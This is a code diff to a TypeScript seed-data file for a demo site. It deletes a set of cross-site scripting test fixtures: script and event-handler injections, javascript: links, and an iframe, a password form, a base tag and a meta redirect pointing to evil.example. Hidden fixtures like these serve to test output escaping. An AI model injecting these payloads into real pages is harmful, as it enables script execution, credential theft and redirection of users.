@@ -1,7 +1,7 @@
 import { competitionIdOf } from '../../demo/content/feedIds.ts';
 import { entryRef, type Fields, type SeedEntry } from './entry.ts';
 
-/** Unusual entries: drafts, gaps, removed pages and hostile texts. */
+/** Unusual entries: drafts, gaps and removed pages. */
 
 const NETHERLANDS = entryRef('country Netherlands');
 const LETTERS = Array.from('ABCDEFGHIJKLMNOPQRSTUVWX');
@@ -68,20 +68,6 @@ const page = (pageLink: string, fields: Fields, more: Partial<SeedEntry> = {}): 
   ...more,
 });
 
-const HOSTILE_TEXT = [
-  'Before.',
-  '<script>window.hostile = 1</script><style>body { display: none }</style>',
-  '<img src=x onerror="window.hostile = 2"><svg onload="window.hostile = 3"></svg>',
-  '<iframe src="https://evil.example/frame" srcdoc="<script>parent.hostile = 4</script>"></iframe>',
-  '[click](javascript:window.hostile=5) <a href="javascript:window.hostile=6">here</a> [data](data:text/html,hostile)',
-  '</p></main></body></html><h1 style="position:fixed;inset:0">Broken out</h1>',
-  '<form action="https://evil.example/"><input name="password"></form><base href="https://evil.example/">',
-  '<scr<script>ipt>window.hostile = 7</scr</script>ipt> &lt;script&gt;window.hostile = 8&lt;/script&gt;',
-  '</script><script>window.hostile = 9</script> {{window.hostile = 10}} <!-- a comment',
-  '<meta http-equiv="refresh" content="0;url=https://evil.example/"><link rel="stylesheet" href="https://evil.example/a.css">',
-  'After.',
-].join('\n\n');
-
 const pages: readonly SeedEntry[] = [
   page('/static/about-us', {
     title: 'Who makes these pages',
@@ -96,16 +82,6 @@ const pages: readonly SeedEntry[] = [
   page('/nl/static/redactie', { title: 'De redactie', content: [{ heading: null, text: 'Vier mensen en een bel.' }] }),
   page('/static/empty', { title: 'Nothing to read yet', content: [] }),
   page('/static/old-rules', { custom410: true }),
-  page('/static/hostile', {
-    title: 'Hostile </title><script>window.hostile = 11</script>',
-    metaTitle: 'Hostile "><script>window.hostile = 12</script>',
-    metaDescription: 'Hostile" onload="window.hostile = 13',
-    content: [
-      { heading: '<b onmouseover="window.hostile = 14">Heading</b>', text: HOSTILE_TEXT },
-      { heading: null, text: null },
-      { heading: 'Long', text: 'x'.repeat(30_000) },
-    ],
-  }),
 ];
 
 export const specialEntries: readonly SeedEntry[] = [...amateurLeagues, ...drafts, ...racecourse, ...pages];
